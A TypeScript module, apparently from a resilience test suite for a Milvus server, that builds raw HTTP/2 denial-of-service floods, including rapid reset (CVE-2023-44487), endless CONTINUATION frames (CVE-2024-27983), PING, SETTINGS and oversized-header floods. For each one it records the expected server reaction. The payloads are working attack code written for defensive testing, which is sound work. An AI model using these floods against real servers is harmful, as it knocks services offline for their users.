/** What hostile HTTP/2 clients send once the handshake is done: each attack a stream of bytes without end. */
import { FLAG, frame, literal, PREFACE, requestBlock, settings, TYPE } from './frames.ts'

/** The first bytes of a connection, then as many more as the socket takes; null: no more to send. */
export interface Attack {
  readonly start: Buffer
  next(round: number): Buffer | null
  /** Reads what comes, and answers PINGs as a client does that wants to stay; else reads nothing while it attacks. */
  readonly reads: boolean
  /** What the server does: sends the client away, or ends its calls and keeps a connection that is no worse than idle. */
  readonly ends: 'connection' | 'calls'
}

const GRPC = '/milvus.proto.milvus.MilvusService/GetVersion'
const REST = '/v2/vectordb/collections/list'
const hello = Buffer.concat([PREFACE, settings()])
const grpcBlock = requestBlock(GRPC, 'application/grpc')
const BATCH = 100
const batch = (make: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: BATCH }, (_, i) => make(i)))
const streamOf = (round: number, index: number): number => ((round * BATCH + index) * 2 + 1) & 0x7fffffff
const word = (value: number): Buffer =>
  Buffer.from([value >>> 24, (value >> 16) & 255, (value >> 8) & 255, value & 255])
const big = (index: number, bytes: number): Buffer => literal(`x-${index}`, 'v'.repeat(bytes))

const flood = (make: (round: number, index: number) => Buffer, start: readonly Buffer[] = []): Attack => ({
  start: Buffer.concat([hello, ...start]),
  next: (round) => batch((index) => make(round, index)),
  reads: true,
  ends: 'connection',
})

const openHeaders = frame(TYPE.headers, FLAG.none, 1, grpcBlock)
const openStream = frame(TYPE.headers, FLAG.endHeaders, 1, grpcBlock)
const request = (stream: number) => frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, stream, grpcBlock)

export const ATTACKS = {
  'rapid reset (CVE-2023-44487)': flood((round, index) => {
    const stream = streamOf(round, index)
    return Buffer.concat([request(stream), frame(TYPE.reset, FLAG.none, stream, word(8))])
  }),
  'resets by the server: windows of nothing': flood((round, index) => {
    const stream = streamOf(round, index)
    return Buffer.concat([request(stream), frame(TYPE.windowUpdate, FLAG.none, stream, word(0))])
  }),
  'CONTINUATION without end (CVE-2024-27983)': flood(
    (round, index) => frame(TYPE.continuation, FLAG.none, 1, big((round * BATCH + index) % 1_000, 100)),
    [openHeaders],
  ),
  'empty CONTINUATION without end': flood(() => frame(TYPE.continuation, FLAG.none, 1), [openHeaders]),
  'headers of 60 KB': {
    ...flood((round, index) => {
      const block = Buffer.concat([grpcBlock, ...Array.from({ length: 4 }, (_, i) => big(i, 14_000))])
      const stream = streamOf(round, index)
      const parts = [0, 1, 2, 3].map((part) => block.subarray(part * 16_384, (part + 1) * 16_384))
      return Buffer.concat(
        parts.map((part, i) =>
          frame(i === 0 ? TYPE.headers : TYPE.continuation, i === 3 ? FLAG.endHeaders : FLAG.none, stream, part),
        ),
      )
    }),
    ends: 'calls',
  },
  'one header indexed 4,000 times': flood((round, index) => {
    const name = Buffer.concat([
      Buffer.from([0x40, 1]),
      Buffer.from('x'),
      Buffer.from([127, 0xa1, 0x1e]),
      Buffer.alloc(4_000, 118),
    ])
    const block = Buffer.concat([grpcBlock, name, Buffer.alloc(4_000, 0xbe)])
    return frame(TYPE.headers, FLAG.endHeaders, streamOf(round, index), block)
  }),
  SETTINGS: flood(() => settings([4, 65_535])),
  'SETTINGS whose answers nobody reads': { ...flood(() => settings([4, 65_535])), reads: false },
  PING: flood(() => frame(TYPE.ping, FLAG.none, 0, Buffer.alloc(8))),
  'PING whose answers nobody reads': { ...flood(() => frame(TYPE.ping, FLAG.none, 0, Buffer.alloc(8))), reads: false },
  'empty DATA': flood(() => frame(TYPE.data, FLAG.none, 1), [openStream]),
  PRIORITY: flood((round, index) =>
    frame(TYPE.priority, FLAG.none, streamOf(round, index), Buffer.from([0, 0, 0, 0, 1])),
  ),
  'WINDOW_UPDATE by one': flood(() => frame(TYPE.windowUpdate, FLAG.none, 0, word(1))),
  'answers without a window': {
    start: Buffer.concat([PREFACE, settings([4, 0])]),
    next: (round) =>
      round > 1
        ? null
        : batch((index) =>
            frame(
              TYPE.headers,
              FLAG.endHeaders | FLAG.endStream,
              streamOf(round, index),
              requestBlock(REST, 'application/json'),
            ),
          ),
    reads: true,
    ends: 'calls',
  },
  'bodies that do not come': {
    start: hello,
    next: (round) =>
      round > 1 ? null : batch((index) => frame(TYPE.headers, FLAG.endHeaders, streamOf(round, index), grpcBlock)),
    reads: true,
    ends: 'calls',
  },
  'a preface and no SETTINGS': { start: PREFACE, next: () => null, reads: true, ends: 'connection' },
  'silence after the handshake': { start: Buffer.alloc(0), next: () => null, reads: true, ends: 'connection' },
  'frames of an unknown type': flood(() => frame(0xbb, 0xff, 0, Buffer.alloc(16))),
  'frames too large': flood(() => frame(TYPE.data, FLAG.none, 1, Buffer.alloc(20_000)), [openStream]),
  'streams of the server': flood((round, index) =>
    frame(TYPE.headers, FLAG.endHeaders, streamOf(round, index) + 1, grpcBlock),
  ),
} as const satisfies Readonly<Record<string, Attack>>

export type AttackName = keyof typeof ATTACKS
